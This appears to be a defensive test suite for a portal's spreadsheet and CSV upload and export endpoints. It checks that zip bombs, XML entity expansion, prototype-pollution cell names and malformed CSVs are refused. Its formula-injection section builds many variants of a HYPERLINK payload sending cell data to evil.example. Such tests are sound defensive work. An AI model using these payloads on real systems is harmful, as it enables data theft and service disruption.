import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { handmadeWorkbook, workbook, workbookParts } from '@portal/testing/workbook';
import { zipOf, type ZipEntry } from '@portal/testing/zip';
import { testApp } from '../../testing/app.ts';
import { startApi } from '../../testing/process.ts';

const { make, url: databaseUrl, cookieOf } = await testApp();
const api = await startApi(databaseUrl);
const admin = await make.user({ role: 'ADMIN' });
const cookie = await cookieOf(admin);

async function send(path: string, file: string | Buffer, fields: Record<string, string> = {}) {
  const form = new FormData();
  form.append('file', new Blob([typeof file === 'string' ? file : Uint8Array.from(file)]), 'list');
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  const answer = await fetch(new URL(`/accounting${path}`, api.url), {
    method: 'POST',
    headers: { cookie },
    body: form,
  });
  const text = new TextDecoder('windows-1252', { ignoreBOM: true }).decode(await answer.arrayBuffer());
  const { code = '' } = answer.ok ? {} : (JSON.parse(text) as { code: string });
  return { outcome: `${answer.status} ${code}`.trim(), text };
}
const preview = (file: string | Buffer) => send('/merchandise/preview', file);
const canteen = (file: string | Buffer) => send('/canteen/preview', file, { month: '2026-11' });

// Starts the sandbox processes before the tests.
beforeAll(() => canteen('PNR;Betrag\n1;1,00\n'));

const row = (n: number, name: string, amount: string) =>
  `<row r="${n}"><c r="A${n}" t="inlineStr"><is><t>${name}</t></is></c>${amount}</row>`;
const good = row(2, 'Tassen', '<c r="B2"><v>12.5</v></c>');
const sheet = (rows: string, before = '') => `${before}<sheetData>${rows}</sheetData>`;
const part = (name: string, bytes: string | Buffer = '<x/>'): ZipEntry => ({ name, bytes: Buffer.from(bytes) });
const large = Buffer.alloc(60_000_000, ' ');
/** A valid file whose sheet is replaced by sixty million blanks with these ZIP headers. */
const bomb = (headers: Partial<ZipEntry>) =>
  zipOf(
    workbookParts('').map((one) =>
      one.name.endsWith('sheet1.xml') ? { name: one.name, bytes: large, ...headers } : one,
    ),
  );

/** A thousand parts at the same nine million bytes, which decompress to nothing in a fifth of a second. */
function overlappingParts(): Buffer {
  const packed = Buffer.alloc(9_000_005, Buffer.from([0, 0, 0, 0xff, 0xff]));
  packed.writeUInt8(1, 9_000_000);
  const sheets = Array.from({ length: 1_000 }, (_, n): ZipEntry => ({
    name: `xl/worksheets/${n}.xml`,
    bytes: Buffer.alloc(0),
    packed,
    ...(n > 0 && { says: { offset: 0 } }),
  }));
  return zipOf([...sheets, ...workbookParts(sheet(good))]);
}

/** Every tenth row up to the last one. */
const spread = (last: number) =>
  Array.from({ length: Math.ceil(last / 10) }, (_, n) => last - 10 * n)
    .filter((n) => n > 1)
    .toReversed()
    .map((n) => row(n, 'Tassen', `<c r="B${n}"><v>1</v></c>`))
    .join('');

describe('a hostile XLSX', () => {
  it.each<[what: string, file: () => Buffer, outcome: string]>([
    ['that decompresses to 60 MB', () => bomb({}), '413 PAYLOAD_TOO_LARGE'],
    ['with a wrong size in the central directory', () => bomb({ says: { size: 1_000 } }), '400 FILE_UNREADABLE'],
    [
      'with a wrong size in both headers',
      () => bomb({ says: { size: 1_000 }, localSize: 1_000 }),
      '400 FILE_UNREADABLE',
    ],
    [
      'whose local header announces four gigabytes',
      () => zipOf(workbookParts(sheet(good)).map((one) => ({ ...one, localSize: 0xffff_fff0 }))),
      '400 FILE_UNREADABLE',
    ],
    [
      'that is damaged',
      () => zipOf(workbookParts(sheet(good)).map((one) => ({ ...one, says: { crc: 1 } }))),
      '400 FILE_UNREADABLE',
    ],
    [
      'that is encrypted',
      () => zipOf(workbookParts(sheet(good)).map((one) => ({ ...one, says: { flags: 1 } }))),
      '400 FILE_UNREADABLE',
    ],
    [
      'of 3,000 parts',
      () =>
        handmadeWorkbook(
          sheet(good),
          Array.from({ length: 3_000 }, (_, n) => part(`${n}.xml`)),
        ),
      '413 PAYLOAD_TOO_LARGE',
    ],
    ['with a duplicate part', () => handmadeWorkbook(sheet(good), [part('xl/workbook.xml')]), '400 FILE_UNREADABLE'],
    ['whose parts overlap', overlappingParts, '400 FILE_UNREADABLE'],
    ['of text', () => Buffer.from('Artikel;November 2026\nTassen;1\n'), '400 FILE_UNREADABLE'],
    ['of HTML', () => Buffer.from('<table><tr><td>1</td></tr></table>'), '400 FILE_UNREADABLE'],
    ['of two bytes', () => Buffer.from('PK'), '400 FILE_UNREADABLE'],
    ['that is a ZIP without a workbook', () => zipOf([part('a.txt')]), '400 FILE_UNREADABLE'],
    [
      'without a visible sheet',
      () => zipOf(workbookParts(sheet(good), { sheetTag: ' state="hidden"' })),
      '400 FILE_UNREADABLE',
    ],
    ['of 20,001 rows', () => workbook([[], ...Array.from({ length: 20_001 }, () => ['x', 1])]), '400 TOO_MANY_ROWS'],
    ['with rows beyond the reading limit', () => handmadeWorkbook(sheet(spread(40_001))), '400 TOO_MANY_ROWS'],
    ['of more than 10 MiB', () => Buffer.alloc(10 * 1024 * 1024 + 1), '413 PAYLOAD_TOO_LARGE'],
  ])('%s is refused before the time limit', { timeout: 60_000 }, async (_what, file, outcome) => {
    const bytes = file();
    const startedAt = performance.now();
    expect((await preview(bytes)).outcome).toBe(outcome);
    expect(performance.now() - startedAt).toBeLessThan(15_000);
  });

  it.each<[what: string, file: () => Buffer]>([
    ['with macros', () => handmadeWorkbook(sheet(good), [part('xl/vbaProject.bin', Buffer.alloc(1_000, 0xd0))])],
    [
      'with links to other files',
      () =>
        handmadeWorkbook(sheet(good), [
          part(
            'xl/externalLinks/_rels/externalLink1.xml.rels',
            '<Relationships><Relationship Id="rId1" Target="http://127.0.0.1:9/x" TargetMode="External"/></Relationships>',
          ),
          part('xl/externalLinks/externalLink1.xml'),
        ]),
    ],
    [
      'with a cell at XFD1048576',
      () => handmadeWorkbook(sheet(`${good}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`)),
    ],
    ['that announces a million rows', () => handmadeWorkbook(sheet(good, '<dimension ref="A1:XFD1048576"/>'))],
    [
      'of 1,048,576 empty rows',
      () => handmadeWorkbook(sheet(good + Array.from({ length: 1_048_574 }, (_, n) => `<row r="${n + 3}"/>`).join(''))),
    ],
    [
      'with entities in entities',
      () =>
        handmadeWorkbook(sheet(good, '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>')),
    ],
    [
      'with a cell named __proto__',
      () => handmadeWorkbook(sheet(`${good}<row r="3"><c r="__proto__"><v>1</v></c></row>`)),
    ],
  ])('%s yields its one row', { timeout: 60_000 }, async (_what, file) => {
    const { outcome, text } = await preview(file());
    expect(outcome).toBe('200');
    expect((JSON.parse(text) as { rows: object[] }).rows).toMatchObject([
      { row: 2, name: 'Tassen', amountCents: 1_250 },
    ]);
  });

  it('with its last row at the reading limit is accepted, even with formats below it', async () => {
    const formats = '<row r="1048576"><c r="C1048576" s="0"/></row>';
    const { outcome, text } = await preview(handmadeWorkbook(sheet(spread(40_000) + formats)));
    expect(outcome).toBe('200');
    expect((JSON.parse(text) as { rows: object[] }).rows.at(-1)).toMatchObject({ row: 40_000 });
  });

  it.each([
    ['a formula without a value', '<c r="B2"><f>1+1</f></c>', 'AMOUNT_MISSING'],
    ['a formula with a text value', '<c r="B2" t="str"><f>"x"</f><v>x</v></c>', 'AMOUNT_INVALID'],
    ['an error', '<c r="B2" t="e"><v>#REF!</v></c>', 'AMOUNT_INVALID'],
    ['a boolean', '<c r="B2" t="b"><v>1</v></c>', 'AMOUNT_INVALID'],
    ['a date', '<c r="B2" t="d"><v>2026-11-01T00:00:00Z</v></c>', 'AMOUNT_IS_DATE'],
    ['not a number', '<c r="B2"><v>NaN</v></c>', 'AMOUNT_INVALID'],
    ['too large', '<c r="B2"><v>1e300</v></c>', 'AMOUNT_INVALID'],
  ])('reports an amount that is %s', async (_what, cell, code) => {
    const { text } = await preview(handmadeWorkbook(sheet(row(2, 'Tassen', cell))));
    expect((JSON.parse(text) as { errors: object[] }).errors).toMatchObject([{ row: 2, column: 'B', code }]);
  });
});

describe('a hostile CSV', () => {
  it.each<[what: string, file: () => string | Buffer, outcome: string]>([
    ['of one line of 10 MB', () => `PNR;Betrag\n1;${'x'.repeat(10_000_000)}`, '400 FILE_UNREADABLE'],
    ['of five million cells', () => `PNR;Betrag\n${';'.repeat(5_000_000)}`, '400 FILE_UNREADABLE'],
    ['with an unclosed quote', () => `PNR;Betrag\n1;"2\n${'3;4\n'.repeat(50_000)}`, '400 FILE_UNREADABLE'],
    ['of quotes', () => `PNR;Betrag\n${'"'.repeat(9_999_999)}`, '400 FILE_UNREADABLE'],
    ['with NUL', () => 'PNR;Betrag\n1;2\0', '400 ENCODING_UNSUPPORTED'],
    ['of empty lines', () => `PNR;Betrag\n${'\n'.repeat(10_000_000)}`, '400 TOO_MANY_ROWS'],
    ['of 100,001 rows', () => `PNR;Betrag\n${'1;1\n'.repeat(100_001)}`, '400 TOO_MANY_ROWS'],
    ['of nothing', () => Buffer.from([0xef, 0xbb, 0xbf]), '400 HEADER_MISSING'],
    ['in UTF-32', () => Buffer.from([0xff, 0xfe, 0, 0, 1, 0, 0, 0]), '400 ENCODING_UNSUPPORTED'],
    [
      'of random bytes',
      () => Buffer.from(Array.from({ length: 5_000 }, (_, n) => 1 + ((n * 37) % 255))),
      '400 HEADER_MISSING',
    ],
    ['of more than 10 MiB', () => Buffer.alloc(10 * 1024 * 1024 + 1, 'x'), '413 PAYLOAD_TOO_LARGE'],
  ])('%s is refused', { timeout: 60_000 }, async (_what, file, outcome) => {
    expect((await canteen(file())).outcome).toBe(outcome);
  });

  it('with 300 columns is read, and so is a CSV with CR line ends', async () => {
    const more = Array.from({ length: 298 }, (_, n) => `S${n}`).join(';');
    const wide = await canteen(`PNR;Betrag;${more}\n1;2,00;${more}\n`);
    const old = await canteen('PNR;Betrag\r1;2,00\r');
    for (const { text } of [wide, old])
      expect(JSON.parse(text)).toMatchObject({ totals: { rows: 1, amountCents: 200 } });
  });
});

// Texts that a spreadsheet evaluates, or might evaluate after a careless conversion.
const link = 'HYPERLINK("http://evil.example/?x="&A1,"hier")';
const forms = [
  ...['=', '+', '-', '@', '==', '=+', '+=', '-+', '@=', '=-', '=@', '＝', '＋', '－', '＠'].map((sign) => sign + link),
  ...[' =', '\t=', '\r=', '\n=', '\u00a0=', '\u3000=', '  @'].map((sign) => sign + link),
  ...["'=", "''=", "'+", "'@"].map((sign) => sign + link),
  ...['"=', '"=1+1";', 'a;=', 'a\t=', 'a|='].map((start) => start + link),
];

describe('=HYPERLINK', () => {
  const runs = /^[=+\-@\t\r\n＝＋－＠]/;

  it('in thirty forms is plain text in every exported file', { timeout: 120_000 }, async () => {
    expect(new Set(forms).size).toBeGreaterThan(30);
    // A name has at most 60 characters.
    const all = forms.map((form, n) => `${form.slice(0, 50)} ${n}`);
    const isWide = (name: string) => /[＝＋－＠]/.test(name);
    const names = all.filter((name) => !isWide(name));
    const wide = workbook([['Artikel', '11/2026'], ...all.filter(isWide).map((name) => [name, 1])]);
    const { errors } = JSON.parse((await preview(wide)).text) as { errors: { code: string }[] };
    // Windows-1252 does not contain these characters.
    expect(errors.map(({ code }) => code)).toEqual(Array(4).fill('NAME_UNMAPPABLE'));
    const file = workbook([['Artikel', '11/2026'], ...names.map((name) => [name, 1])]);
    let version = 0;
    const numberOf = (n: number) => String(8_000 + n);
    const { rows } = JSON.parse((await preview(file)).text) as { rows: { name: string }[] };
    const assignments = JSON.stringify(rows.map(({ name }, n) => ({ name, number: numberOf(n) })));
    for (const separator of [';', '\t', '|']) {
      const put = await fetch(new URL('/accounting/merchandise/settings', api.url), {
        method: 'PUT',
        headers: { cookie, 'content-type': 'application/json' },
        body: JSON.stringify({ separator }),
      });
      expect(put.status).toBe(200);
      const answer = await send('/merchandise/export', file, { accountsVersion: String(version), assignments });
      expect(answer.outcome).toBe('200');
      version = 1;
      const records = parse(answer.text, { delimiter: separator, quote: null });
      expect(records).toHaveLength(names.length + 1);
      for (const cells of records) {
        expect(cells).toHaveLength(4);
        for (const cell of cells) expect(cell).not.toMatch(runs);
      }
    }
    const listed = await fetch(new URL('/accounting/merchandise/accounts/export', api.url), { headers: { cookie } });
    const csv = await listed.text();
    for (const cells of parse(csv, { delimiter: ';', bom: true }))
      for (const cell of cells) expect(cell).not.toMatch(runs);
    expect(JSON.parse((await send('/merchandise/accounts/import', csv)).text)).toEqual({
      added: 0,
      changed: 0,
      removed: 0,
    });
  });

  it('never reaches a payroll file', { timeout: 60_000 }, async () => {
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const numbers = forms.map((form) => `${quoted(form)};A;1,00\n`).join('');
    const refused = await canteen(`PNR;Name;Betrag\n${numbers}`);
    const { errors, totals } = JSON.parse(refused.text) as { errors: { code: string }[]; totals: object };
    expect(new Set(errors.map(({ code }) => code))).toEqual(new Set(['PERSONNEL_INVALID']));
    expect([errors.length, totals]).toMatchObject([forms.length, { rows: 0 }]);
    const put = await fetch(new URL('/accounting/canteen/settings', api.url), {
      method: 'PUT',
      headers: { cookie, 'content-type': 'application/json' },
      body: JSON.stringify({ beraternummer: '1234567', mandantennummer: '1', lohnart: '9010' }),
    });
    expect(put.status).toBe(200);
    const named = forms.map((form, n) => `${n + 1};${quoted(form)};1,00\n`).join('');
    const { outcome, text } = await send('/canteen/export', `PNR;Name;Betrag\n${named}`, { month: '2026-11' });
    expect([outcome, text.includes('HYPERLINK'), text.split('\r\n').length]).toEqual(['200', false, 14 + forms.length]);
  });
});
